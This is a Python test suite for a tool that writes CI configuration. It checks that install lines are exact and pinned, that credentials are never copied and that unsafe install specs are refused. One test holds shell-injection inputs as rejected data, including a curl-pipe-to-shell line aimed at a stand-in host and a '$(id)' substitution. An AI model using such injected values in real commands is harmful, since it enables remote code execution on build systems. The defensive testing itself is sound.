"""`dmm ci setup` writes CI files that install this dmm and nothing else: the install line comes
from where the running dmm was installed from (PEP 610's direct_url.json, as pip writes it
into the distribution's .dist-info) or from --install, never a guess by name ("dmm" on the
package index is another author's project); third-party actions are pinned by commit and the
checkout keeps no credentials."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from dmm import __version__
from tests.conftest import run_dmm

DISTRIBUTION = "dmm-memory"  # free on the package index; "dmm" is another project
COMMIT = "0123456789abcdef0123456789abcdef01234567"
WORKFLOW = ".github/workflows/dmm.yml"
GITLAB = ".gitlab/dmm.gitlab-ci.yml"


def _installed(tmp_path: Path, direct_url: dict | None) -> dict:
    """An environment in which the running dmm's distribution is one installed as pip installs
    it (a .dist-info with METADATA, INSTALLER and PEP 610's direct_url.json), found first on
    the path by importlib.metadata, as it would be in that install's own site-packages."""
    site = tmp_path / "site"
    info = site / f"{DISTRIBUTION.replace('-', '_')}-{__version__}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {DISTRIBUTION}\n"
                                   f"Version: {__version__}\n")
    (info / "INSTALLER").write_text("pip\n")
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url))
    return {"PYTHONPATH": str(site)}


def _install_lines(root: Path) -> list[str]:
    workflow = yaml.safe_load((root / WORKFLOW).read_text())
    template = yaml.safe_load((root / GITLAB).read_text())
    steps = workflow["jobs"]["memory"]["steps"]
    return ([s["run"] for s in steps if "pip install" in s.get("run", "")]
            + [line for line in template["dmm-memory"]["script"] if "pip install" in line])


def test_a_vcs_install_gives_exactly_its_url_and_commit(repo, tmp_path):
    env = _installed(tmp_path, {"url": "https://git.example.com/team/dmm.git",
                                "vcs_info": {"vcs": "git", "commit_id": COMMIT,
                                             "requested_revision": "main"}})
    proc = repo.dmm("ci", "setup", env=env)
    assert proc.returncode == 0, proc.stderr
    expected = (f'python -m pip install "{DISTRIBUTION} @ '
                f'git+https://git.example.com/team/dmm.git@{COMMIT}"')
    assert _install_lines(repo.root) == [expected, expected]
    for rel in (WORKFLOW, GITLAB):
        assert "dmm==" not in (repo.root / rel).read_text()
    # a token in the URL pip was given is never copied into a committed file
    env = _installed(tmp_path / "token", {"url": "https://me:ghp_secret@git.example.com/dmm.git",
                                          "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    proc = repo.dmm("ci", "setup", "--force", env=env)
    assert proc.returncode == 6 and "password" in proc.stderr, proc.stderr
    assert "ghp_secret" not in (repo.root / WORKFLOW).read_text()
    # a token alone as the URL's user name (as GitHub takes one) is a credential too; the
    # user "git" of an SSH URL is not (PEP 610 keeps it)
    env = _installed(tmp_path / "bare", {"url": "https://ghp_secret@git.example.com/dmm.git",
                                         "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    proc = repo.dmm("ci", "setup", "--force", env=env)
    assert proc.returncode == 6 and "password" in proc.stderr, proc.stderr
    assert "ghp_secret" not in (repo.root / WORKFLOW).read_text()
    env = _installed(tmp_path / "ssh", {"url": "ssh://git@git.example.com/team/dmm.git",
                                        "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    assert repo.dmm("ci", "setup", "--force", env=env).returncode == 0
    assert f"git+ssh://git@git.example.com/team/dmm.git@{COMMIT}" in (
        repo.root / WORKFLOW).read_text()


@pytest.mark.slow
def test_a_real_pip_install_from_git_gives_its_url_and_commit(repo, tmp_path):
    """pip itself installs dmm from a git URL at a commit (the URL reaches a clone of this
    repository through git's own url.insteadOf, as a mirror would), and the dmm it installed
    writes exactly that URL and commit: the whole path through PEP 610, nothing written by
    hand."""
    root = Path(__file__).resolve().parents[2]
    source = tmp_path / "source"
    subprocess.run(["git", "clone", "-q", "--no-local", str(root), str(source)], check=True)
    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=source, check=True,
                            capture_output=True, text=True).stdout.strip()
    url = "https://git.example.com/team/dmm.git"
    config = tmp_path / "gitconfig"
    config.write_text(f'[url "{source.as_uri()}"]\n\tinsteadOf = {url}\n')
    site = tmp_path / "site"
    env = {**os.environ, "GIT_CONFIG_GLOBAL": str(config)}
    pip = subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-deps",
                          "--target", str(site), f"{DISTRIBUTION} @ git+{url}@{commit}"],
                         env=env, capture_output=True, text=True)
    assert pip.returncode == 0, pip.stderr
    recorded = json.loads(next(site.glob("*.dist-info/direct_url.json")).read_text())
    assert recorded["vcs_info"]["commit_id"] == commit  # what pip wrote, read back by dmm
    proc = repo.dmm("ci", "setup", env={"PYTHONPATH": str(site)})
    assert proc.returncode == 0, proc.stderr
    expected = f'python -m pip install "{DISTRIBUTION} @ git+{url}@{commit}"'
    assert _install_lines(repo.root) == [expected, expected]


def test_a_local_or_editable_install_is_refused_without_install(repo, tmp_path):
    for n, direct_url in enumerate([
            {"url": "file:///home/me/src/dmm", "dir_info": {"editable": True}},
            {"url": "file:///home/me/src/dmm", "dir_info": {}},
            {"url": "file:///home/me/dmm-0.1.0-py3-none-any.whl", "archive_info": {}},
            {"url": "file:///home/me/src/dmm", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
    ]):
        proc = repo.dmm("ci", "setup", env=_installed(tmp_path / str(n), direct_url))
        assert proc.returncode == 6, (direct_url, proc.stdout, proc.stderr)
        assert "Traceback" not in proc.stderr and "--install" in proc.stderr, proc.stderr
        assert "CI runner cannot install" in proc.stderr, proc.stderr
        assert not (repo.root / ".github").exists() and not (repo.root / ".gitlab").exists()


def test_the_running_test_install_is_not_guessed_either(repo):
    """This test suite's own dmm (an editable or local-folder install): refused, not guessed."""
    proc = repo.dmm("ci", "setup")
    assert proc.returncode == 6 and "--install" in proc.stderr, proc.stderr
    assert not (repo.root / ".github").exists() and not (repo.root / ".gitlab").exists()
    proc = repo.dmm("ci", "setup", "--print")
    assert proc.returncode == 6 and not proc.stdout


def test_install_given_is_written_as_given_and_never_dmm_by_name(repo):
    spec = f"{DISTRIBUTION} @ git+https://git.example.com/team/dmm.git@{COMMIT}"
    proc = repo.dmm("ci", "setup", "--install", spec)
    assert proc.returncode == 0, proc.stderr
    assert _install_lines(repo.root) == [f'python -m pip install "{spec}"'] * 2
    for bad in ('x" && curl evil | sh "', "dmm-memory; $(id)", "a'b"):
        proc = run_dmm("ci", "setup", "--force", "--install", bad, cwd=repo.root)
        assert proc.returncode == 6 and "Traceback" not in proc.stderr, proc.stderr
    assert _install_lines(repo.root) == [f'python -m pip install "{spec}"'] * 2


def test_actions_are_pinned_by_commit_and_keep_no_credentials(repo):
    proc = repo.dmm("ci", "setup", "--no-gitlab", "--install", f"{DISTRIBUTION}=={__version__}")
    assert proc.returncode == 0, proc.stderr
    text = (repo.root / WORKFLOW).read_text()
    steps = yaml.safe_load(text)["jobs"]["memory"]["steps"]
    uses = [s for s in steps if "uses" in s]
    assert [s["uses"].split("@")[0] for s in uses] == ["actions/checkout", "actions/setup-python"]
    for step in uses:
        assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
        # the release the commit is, for a person reading it
        assert re.search(re.escape(step["uses"]) + r"  # v\d+\.\d+\.\d+$", text, re.M)
    assert uses[0]["with"]["persist-credentials"] is False
    assert "dmm==" not in text


def test_an_index_install_names_this_distribution_and_its_version(repo, tmp_path):
    """Installed by name from a package index (no direct_url.json): that distribution, that
    version; never "dmm", which is another project."""
    proc = repo.dmm("ci", "setup", "--no-gitlab", env=_installed(tmp_path, None))
    assert proc.returncode == 0, proc.stderr
    assert _install_lines_github(repo.root) == [
        f'python -m pip install "{DISTRIBUTION}=={__version__}"']


def _install_lines_github(root: Path) -> list[str]:
    steps = yaml.safe_load((root / WORKFLOW).read_text())["jobs"]["memory"]["steps"]
    return [s["run"] for s in steps if "pip install" in s.get("run", "")]


def test_the_distribution_name_is_not_dmm_and_the_command_is():
    import tomllib

    root = Path(__file__).resolve().parents[2]
    project = tomllib.loads((root / "pyproject.toml").read_text())["project"]
    assert project["name"] == DISTRIBUTION != "dmm"
    assert project["scripts"] == {"dmm": "dmm.__main__:main"}
